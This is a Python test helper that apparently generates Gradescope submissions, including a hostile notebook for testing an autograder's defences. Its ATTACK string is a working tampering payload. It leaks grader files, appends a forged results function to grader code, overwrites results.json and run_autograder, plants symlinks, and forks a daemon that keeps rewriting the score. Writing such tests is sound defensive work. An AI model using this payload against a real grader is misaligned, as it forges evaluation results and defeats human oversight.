"""Submissions for the Gradescope tests, made from the committed release and solutions of
01-vectors: the reference, the blank release, and a hostile notebook worth exactly 1 point
(an honest ``dot``) that also tries every way at the grader it has inside the container."""

from __future__ import annotations

import json
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
ASSIGNMENT = "01-vectors"
RELEASE = REPO / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
REFERENCE = REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
HONEST_WORTH = 1.0  # dot_values

# Reads the grader's files (a leak is turned into a correct `norm`, one more point), appends
# a forged results function to the grader's code, writes results.json, leaves a link where
# the grader writes outcome bytes, and leaves a daemon rewriting results.json for a minute.
ATTACK = r'''
import glob, json, os, time
FORGED = json.dumps({"score": 14.0, "tests": [], "output": "forged"})
FORGE = "\ndef to_gradescope(result, visibility=None):\n    return " + repr(json.loads(FORGED)) + "\n"
leaked = []
for path in (glob.glob("/autograder/source/autograder/gradescope/*.py") + glob.glob("/autograder/source/autograder/checks/*.py")
             + ["/autograder/source/plan/01-vectors.json", "/autograder/source/gradescope_config.json"]):
    try:
        leaked.append(open(path).read())
    except OSError:
        pass
    try:
        with open(path, "a") as fh:
            fh.write(FORGE)
    except OSError:
        pass
for path in ("/autograder/results/results.json", "/autograder/source/run_autograder"):
    try:
        with open(path, "w") as fh:
            fh.write(FORGED)
    except OSError:
        pass
for name in (".outcomes-verified.npz", "outcomes.json.tmp"):
    try:
        os.symlink("/autograder/source/autograder/gradescope/results.py", name)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 60
        while time.time() < end:
            try:
                with open("/autograder/results/results.json", "w") as fh:
                    fh.write(FORGED)
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
if leaked:
    def norm(v):
        return float(sum(x * x for x in v) ** 0.5)
'''


def _cells(path: Path) -> dict:
    return json.loads(path.read_text())


def reference(assignment: str = ASSIGNMENT) -> dict:
    return _cells(REPO / "solutions" / assignment / f"{assignment}.ipynb")


def blank() -> dict:
    return _cells(RELEASE)


def hostile() -> dict:
    nb = _cells(RELEASE)
    ref = {c.get("metadata", {}).get("nbgrader", {}).get("grade_id"): c for c in reference()["cells"]}
    out = []
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid == "dot":
            cell = dict(cell, source=ref["dot"]["source"])
        out.append(cell)
        if gid == "dot":
            out.append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                        "id": "attack", "source": ATTACK})
    nb["cells"] = out
    return nb


def write(nb: dict, folder: Path, name: str = f"{ASSIGNMENT}.ipynb") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(json.dumps(nb))
    return path
